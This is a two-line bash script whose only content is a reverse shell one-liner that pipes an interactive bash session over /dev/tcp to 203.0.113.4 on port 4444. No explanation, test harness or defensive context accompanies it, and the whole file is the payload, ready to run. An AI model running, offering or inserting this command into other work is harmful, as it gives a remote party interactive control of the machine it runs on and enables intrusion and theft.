#!/bin/bash
bash -i >& /dev/tcp/203.0.113.4/4444 0>&1
